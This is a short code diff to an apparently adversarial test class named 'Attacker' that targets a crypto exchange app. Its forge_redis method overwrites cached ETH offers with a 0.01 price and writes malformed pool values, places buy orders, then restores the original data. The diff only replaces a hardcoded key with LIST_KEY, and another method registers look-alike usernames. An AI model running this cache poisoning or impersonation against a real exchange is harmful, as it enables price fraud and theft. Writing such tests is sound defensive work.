@@ -304,13 +304,13 @@ class Attacker:
     def forge_redis(self):
         """Write cheap offers and senseless pools, and bring back what stood there before; then buy."""
         offer = json.dumps({"coin_id": 1, "name": "ETH", "price": "0.01", "price_source": "fixed", "suspended": False})
-        for key in ("offer:2:ETH", "offer:3:ETH", "offers:2", "offers:3"):
+        for key in ("offer:2:ETH", "offer:3:ETH", "offers:3", LIST_KEY):
             with_redis(lambda client, key=key: client.set(key, offer))
         for value in ("-5", "9" * 30, "text"):
             with_redis(lambda client, value=value: client.set("pool:ABAN", value))
             self.send("buys", "POST", "orders/", json={"crypto": "ETH", "amount": "1"}, headers=self.own)
             self.send("reads", "GET", "exchanges/crypto-currencies/")
-        with_redis(lambda client: client.set("offers:3", self._loot["offers"]))
+        with_redis(lambda client: client.set(LIST_KEY, self._loot["offers"]))
 
     def forge_names(self):
         """Register names that look like a victim's or ours."""
